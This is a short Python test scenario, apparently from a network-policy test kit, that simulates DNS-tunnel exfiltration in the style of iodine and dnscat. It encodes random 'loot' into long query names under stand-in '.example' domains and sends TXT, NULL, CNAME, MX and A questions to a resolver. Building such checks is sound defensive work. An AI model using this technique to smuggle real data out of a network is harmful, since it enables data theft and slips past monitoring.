# SPDX-License-Identifier: Apache-2.0
"""iodine, dnscat and their like: loot in the names (base32, hex), questions for TXT, NULL, CNAME, MX."""
from kit import *

# A name that looks like a tunnel does not leave at all; here every one does.
POLICY = policy(dns="500/h")


def names(rng):
    for _ in range(20):
        loot = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(180)).encode()
        yield dns_name(loot[:60], loot[60:120], loot[120:], b"t", b"example")
        text = rng.randbytes(90).hex().encode()
        yield dns_name(text[:60], text[60:120], text[120:], b"dnscat", b"example")
        yield dns_name(rng.randbytes(63), rng.randbytes(63), b"t", b"example")
        yield dns_name(*[b"x" * 30] * 7)


def attack(pot, out, family, rng):
    for n, name in enumerate(names(rng)):
        for kind in (16, 10, 5, 15, 1):
            pot.send_packets([udp(pot.ip(family), 1000 + n, RESOLVER[family], 53, question(name, kind, n))])
